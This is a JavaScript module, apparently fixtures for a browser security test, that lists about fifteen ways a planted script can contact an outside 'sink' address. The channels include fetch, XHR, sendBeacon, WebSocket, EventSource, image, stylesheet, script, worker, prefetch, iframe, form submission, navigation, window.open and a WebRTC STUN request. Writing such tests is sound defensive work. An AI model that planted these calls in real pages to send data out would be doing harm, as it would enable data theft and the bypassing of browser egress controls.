// Hostile: calls that a planted script would make to get data out. Each takes the sink's address, and says its own name there.

/** These end or leave the page that they run in; Firefox prefetches only when the page loads nothing else. */
export const alone = ['form', 'location', 'prefetch', 'window-open'];

export const calls = {
  fetch: (sink) => fetch(`${sink.http}/fetch`, { mode: 'no-cors' }),
  xhr: (sink) =>
    new Promise((done) => {
      const request = new XMLHttpRequest();
      request.onloadend = done;
      request.open('GET', `${sink.http}/xhr`);
      request.send();
    }),
  beacon: (sink) => navigator.sendBeacon(`${sink.http}/beacon`, 'x'),
  websocket: (sink) =>
    new Promise((done) => {
      const socket = new WebSocket(`${sink.http.replace('http', 'ws')}/websocket`);
      socket.onclose = socket.onerror = done;
    }),
  eventsource: (sink) =>
    new Promise((done) => {
      const source = new EventSource(`${sink.http}/eventsource`);
      source.onerror = () => done(source.close());
    }),
  image: (sink) =>
    new Promise((done) => {
      const image = new Image();
      image.onload = image.onerror = done;
      image.src = `${sink.http}/image`;
    }),
  stylesheet: (sink) =>
    new Promise((done) => {
      const link = Object.assign(document.createElement('link'), {
        rel: 'stylesheet',
        href: `${sink.http}/stylesheet`,
      });
      link.onload = link.onerror = done;
      document.head.append(link);
    }),
  script: (sink) =>
    new Promise((done) => {
      const script = document.createElement('script');
      script.onload = script.onerror = done;
      script.src = `${sink.http}/script`;
      document.head.append(script);
    }),
  worker: (sink) =>
    new Promise((done) => {
      // A worker of another origin is refused anywhere; one that fetches is not.
      const source = `fetch('${sink.http}/worker', {mode: 'no-cors'}).finally(() => postMessage(0))`;
      const worker = new Worker(URL.createObjectURL(new Blob([source])));
      worker.onmessage = worker.onerror = done;
    }),
  prefetch: (sink) =>
    new Promise((done) => {
      const link = Object.assign(document.createElement('link'), { rel: 'prefetch', href: `${sink.http}/prefetch` });
      link.onload = link.onerror = done;
      document.head.append(link);
    }),
  iframe: (sink) =>
    new Promise((done) => {
      const frame = Object.assign(document.createElement('iframe'), { src: `${sink.http}/iframe` });
      frame.onload = frame.onerror = done;
      document.body.append(frame);
    }),
  form: (sink) => {
    const form = Object.assign(document.createElement('form'), { action: `${sink.http}/form` });
    document.body.append(form);
    form.submit();
  },
  location: (sink) => {
    location.href = `${sink.http}/location`;
  },
  'window-open': (sink) => {
    window.open(`${sink.http}/window-open`);
  },
  webrtc: (sink) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${sink.udp}` }] });
    globalThis.kept = connection;
    connection.createDataChannel('x');
    return connection.createOffer().then((offer) => connection.setLocalDescription(offer));
  },
};
